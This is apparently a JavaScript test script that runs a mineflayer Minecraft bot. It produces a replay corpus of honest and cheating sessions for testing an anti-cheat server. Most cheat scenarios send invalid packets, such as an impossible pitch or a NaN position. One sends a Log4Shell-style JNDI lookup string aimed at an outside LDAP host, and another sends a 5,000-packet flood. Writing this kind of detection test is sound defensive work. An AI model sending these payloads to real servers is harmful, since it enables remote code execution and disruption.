'use strict'

// bot.js: one mineflayer player for the replay corpus (gen_test.go, build
// tag corpusgen). It plays honestly, then, for a cheating scenario, sends
// the packets a cheat client would.
//
//   NODE_PATH=test/e2e/node_modules node bot.js --host H --port P \
//       --version V --username U --scenario S
//
// Scenarios:
//   honest        look around, walk, jump while walking, chat, quit
//   pitch         honest warm-up, then look packets with pitch 120 (> 90), one
//                 per tick in place of the client's own movement packets
//   slot          honest warm-up, then held_item_slot 12 (hotbar is 0..8)
//   nonfinite     honest warm-up, then a position with x = NaN
//   selfinteract  honest warm-up, then attacking its own entity id
//   lookup        honest warm-up, then a chat line with "${jndi:...}"
//   flood         honest warm-up, then 5000 arm swings in one burst
//
// stdout: one JSON line, {"event":"result","scenario":S,"kicked":R|null}
// (exit 0) or {"event":"error","error":E} (exit 1). A kick is the expected
// end of most cheating scenarios, not an error.

const mineflayer = require('mineflayer')

const TIMEOUT_MS = 60000
// How long chunks may take to arrive after spawn before we move anyway.
const CHUNK_WAIT_MS = 10000
// How long the warm-up walks; the honest scenario walks and jumps this long.
const WALK_MS = 1500
// How long after the last packet the bot stays, so a kick can arrive.
const SETTLE_MS = 1500
// The flood: well above the engine's 3,500-packet burst budget (500/s over 7 s).
const FLOOD_PACKETS = 5000

const args = {}
for (let i = 2; i + 1 < process.argv.length; i += 2) args[process.argv[i].replace(/^--/, '')] = process.argv[i + 1]
for (const k of ['host', 'port', 'version', 'username', 'scenario']) {
  if (!args[k]) {
    console.log(JSON.stringify({ event: 'error', error: `missing --${k}` }))
    process.exit(2)
  }
}

let finished = false
let kicked = null
function finish (code, obj) {
  if (finished) return
  finished = true
  console.log(JSON.stringify(obj))
  try { bot.quit() } catch {}
  setTimeout(() => process.exit(code), 500)
}
setTimeout(() => finish(1, { event: 'error', error: `timeout after ${TIMEOUT_MS} ms` }), TIMEOUT_MS).unref()

const bot = mineflayer.createBot({
  host: args.host,
  port: Number(args.port),
  version: args.version,
  username: args.username,
  auth: 'offline',
  hideErrors: true,
  logErrors: false
})

bot.on('kicked', (reason) => { kicked = typeof reason === 'string' ? reason : JSON.stringify(reason) })
bot.on('end', () => {
  if (kicked !== null || args.scenario !== 'honest') finish(0, { event: 'result', scenario: args.scenario, kicked })
  else finish(1, { event: 'error', error: 'connection ended' })
})
bot.on('error', (err) => process.stderr.write(`client error: ${err && err.message}\n`))

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
const modern = () => bot.registry.version['>=']('1.21.2')

async function honest () {
  // Look around in small steps, as a mouse does.
  for (let i = 0; i < 10; i++) {
    await bot.look(bot.entity.yaw + 0.3, Math.sin(i / 3) * 0.6, false)
    await sleep(50)
  }
  bot.setControlState('forward', true)
  await sleep(WALK_MS)
  bot.setControlState('jump', true)
  await sleep(WALK_MS)
  bot.setControlState('jump', false)
  bot.setControlState('forward', false)
  await sleep(300)
  bot.chat('hello from the replay corpus')
  await sleep(500)
}

async function warmUp () {
  bot.setControlState('forward', true)
  await sleep(WALK_MS)
  bot.setControlState('forward', false)
  await sleep(300)
}

const cheats = {
  async pitch () {
    // The cheat's look packets take the place of the client's own movement
    // packets, tick for tick, so the rate stays vanilla's 20/s and only the
    // pitch is impossible.
    const client = bot._client
    const write = client.write.bind(client)
    const movement = new Set(['flying', 'position', 'look', 'position_look'])
    let left = 6
    await new Promise((resolve) => {
      client.write = (name, params) => {
        if (left === 0 || !movement.has(name)) return write(name, params)
        const p = { yaw: bot.entity.yaw, pitch: 120 }
        if (modern()) p.flags = 1
        else p.onGround = true
        write('look', p)
        if (--left === 0) resolve()
      }
    })
  },
  async slot () {
    bot._client.write('held_item_slot', { slotId: 12 })
  },
  async nonfinite () {
    const pos = bot.entity.position
    const p = { x: NaN, y: pos.y, z: pos.z }
    if (modern()) p.flags = 1
    else p.onGround = true
    bot._client.write('position', p)
  },
  async selfinteract () {
    bot._client.write('use_entity', { target: bot.entity.id, mouse: 1, sneaking: false })
  },
  async lookup () {
    bot.chat('${jndi:ldap://198.51.100.7/a}')
  },
  async flood () {
    const p = bot.registry.version['>=']('1.9') ? { hand: 0 } : {}
    for (let i = 0; i < FLOOD_PACKETS; i++) bot._client.write('arm_animation', p)
  }
}

bot.once('spawn', async () => {
  try {
    await Promise.race([bot.waitForChunksToLoad(), sleep(CHUNK_WAIT_MS)])
    await sleep(500)
    if (args.scenario === 'honest') {
      await honest()
    } else {
      const cheat = cheats[args.scenario]
      if (!cheat) throw new Error(`unknown scenario ${args.scenario}`)
      await warmUp()
      await cheat()
    }
    await sleep(SETTLE_MS)
    finish(0, { event: 'result', scenario: args.scenario, kicked })
  } catch (err) {
    finish(1, { event: 'error', error: String(err && err.stack ? err.stack : err) })
  }
})
